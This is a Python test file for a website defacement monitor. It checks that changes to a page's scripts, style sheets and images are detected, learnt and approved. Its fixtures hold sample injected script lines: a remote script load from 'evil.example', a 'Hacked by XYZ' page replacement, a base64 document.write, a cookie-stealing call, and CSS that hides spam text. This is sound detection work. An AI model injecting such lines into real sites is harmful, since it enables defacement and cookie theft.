"""Parts that a page loads, look by look."""

from typing import Any

import pytest
from msgspec.structs import replace

from collectors.portals.fetch import Fetch
from collectors.portals.judge import page_change
from collectors.portals.parts import read_part
from collectors.portals.references import Ref
from tests.collectors.portals.pages import SOURCE, Watched, decoded, got, home

SCRIPT = Ref("script", "https://www.tinh.example.vn/js/main.js?v=1")
STYLE = Ref("style", "https://www.tinh.example.vn/css/site.css")
LOGO = Ref("image", "https://www.tinh.example.vn/img/logo.png")
CODE = 'function menu(a){$(a).toggle("slow")}; var note = "Xin chào bạn"; /* https://jquery.example */'


class Parts:
    """A page that was learnt, and one part of it."""

    def __init__(self, ref: Ref = SCRIPT, name: str = "") -> None:
        self.page = Watched().learnt()
        self.ref = ref
        self.name = name or ref.name

    def look(self, body: str | bytes, **other: Any) -> list[dict[str, Any]]:
        fetch = got("", content_type="text/plain; charset=utf-8", **other)
        fetch = replace(fetch, body=body.encode() if isinstance(body, str) else body)
        lines = self.page.judge.part(self.name, self.ref, read_part(self.ref.kind, fetch), self.page.now_ns)
        self.committed = lines.page_changed
        return decoded(lines.page)

    def learnt(self, body: str | bytes = CODE) -> "Parts":
        for _ in range(3):
            self.look(body)
        return self


def test_a_part_is_learnt_told_for_its_words_and_then_the_same() -> None:
    parts = Parts()
    (line,) = parts.look(CODE)
    assert (line["reason"], line["changed"], line["text_plain"]) == ("learning", False, "xin chao ban")
    assert [parts.look(CODE) for _ in range(20)] == [[]] * 20
    assert parts.committed is False


@pytest.mark.parametrize(
    ("body", "hosts", "means"),
    [
        (CODE + ";$.getScript('https://evil.example/a.js')", ["evil.example"], []),
        (CODE + ";document.body.innerHTML='<h1>Hacked by XYZ</h1>'", [], ["replaces the page"]),
        ('document.write(atob("PGgxPkhhY2tlZCBieSBYWVo8L2gxPg=="))', [], ["atob", "document.write"]),
        (CODE.replace("Xin chào bạn", "Hacked by XYZ"), [], []),
    ],
)
def test_a_script_that_was_replaced_or_added_to_is_told_once(body: str, hosts: list[str], means: list[str]) -> None:
    parts = Parts().learnt()
    (line,) = parts.look(body)
    assert (line["changed"], line["changes"], line["part_kind"]) == (True, ["script_content"], "script")
    assert (line["hosts_foreign"], line["means_added"]) == (hosts, means)
    assert ("hacked by xyz" in line["text_plain"]) is ("evil" not in body)
    assert parts.look(body) == []
    assert page_change(parts.page.judge.memory.page).startswith("p-")


def test_a_script_that_is_right_again_ends_the_change_and_another_attack_is_told_again() -> None:
    parts = Parts().learnt()
    assert parts.look(CODE + ";evil()")
    (line,) = parts.look(CODE)
    assert (line["reason"], line["changed"]) == ("back", False)
    assert page_change(parts.page.judge.memory.page) == ""
    assert parts.look(CODE + ";evil()")[0]["changed"] is True


def test_an_approved_script_is_what_it_is_from_then_on() -> None:
    parts = Parts().learnt()
    new = CODE + ";fetch('https://new.example/')"
    parts.look(new)
    parts.page.judge.approve(page_change(parts.page.judge.memory.page), parts.page.now_ns)
    assert parts.look(new) == []
    assert page_change(parts.page.judge.memory.page) == ""
    assert parts.look(CODE)[0]["changed"] is True


def test_a_script_with_another_token_in_each_answer_is_compared_by_what_it_does() -> None:
    parts = Parts()
    for look in range(50):
        lines = parts.look(f'{CODE}; var token = "{look:032x}", at = {look};')
        assert all(not line["changed"] for line in lines)
    (line,) = parts.look(CODE + '; var token = "1", at = 2; steal(document.cookie)')
    assert line["changed"] is True


def test_a_script_that_is_another_each_time_is_told_only_when_it_does_more() -> None:
    parts = Parts()
    for look in range(40):
        name = "abcdefghijklmnopqrstuvwxyz"[look % 26] * (1 + look // 26)
        assert all(not line["changed"] for line in parts.look(f"{CODE}; var {name} = 1"))
    (line,) = parts.look(CODE + ";eval(q)")
    assert line["means_added"] == ["eval"]


def test_a_style_sheet_that_names_a_foreign_host_or_a_text() -> None:
    parts = Parts(STYLE).learnt(".menu ul{display:none} .logo{background:url(/img/logo.png)}")
    (line,) = parts.look('body{background:url(https://evil.example/x.jpg)} h1:after{content:"Hacked by XYZ"}')
    assert (line["changes"], line["hosts_foreign"]) == (["style_content"], ["evil.example"])
    assert "hacked by xyz" in line["text_plain"]


def test_what_a_style_sheet_hides_counts_as_hidden_text() -> None:
    parts = Parts(STYLE).learnt(".zz{position:absolute;left:-9999px}")
    lines = parts.page.look(home(9, more='<div class="zz">Nhà cái uy tín <a href="/x">cá độ</a></div>'))
    told = [line for line in lines if line["event"] == "content"]
    assert "nha cai uy tin ca do" in told[0]["hidden_plain"]


def test_a_picture_of_the_frame_that_was_replaced_is_told() -> None:
    parts = Parts(LOGO).learnt(b"\x89PNG one")
    assert parts.look(b"\x89PNG one") == []
    (line,) = parts.look(b"\x89PNG two")
    assert (line["changed"], line["changes"]) == (True, ["image_content"])


def test_a_picture_that_is_another_each_time_is_none_to_be_told() -> None:
    parts = Parts(LOGO)
    assert not any(parts.look(f"GIF89a {look}") for look in range(20))


@pytest.mark.parametrize(
    "fetch",
    [
        *(got("", status=404), got("", status=200), got("x", reason="timeout"), got("x", reason="broken")),
        got("x", status=503),
        got("\ufeff\n <!DOCTYPE html><html>not found"),
        got("<HTML><head>"),
    ],
)
def test_what_was_not_got_tells_nothing(fetch: Fetch) -> None:
    assert read_part("script", fetch) is None


def test_a_script_that_begins_like_a_comment_of_a_page_is_a_script() -> None:
    assert read_part("script", got("<!--\nevil()\n-->")) is not None


def test_only_what_lies_on_own_hosts_is_wanted_and_no_more_than_asked_for() -> None:
    page = Watched(replace(SOURCE, parts=3))
    head = "".join(f'<script src="/js/x.axd?d={word}"></script>' for word in "abcdef")
    page.look(home(0, head=head + '<script src="https://cdn.other.example/x.js"></script>'))
    wanted = page.judge.wanted()
    assert len(wanted) == 3
    assert [name for name, _ in wanted][1:] == ["www.tinh.example.vn/js/x.axd", "www.tinh.example.vn/js/x.axd#2"]
    assert Watched(replace(SOURCE, parts=0)).judge.wanted() == []
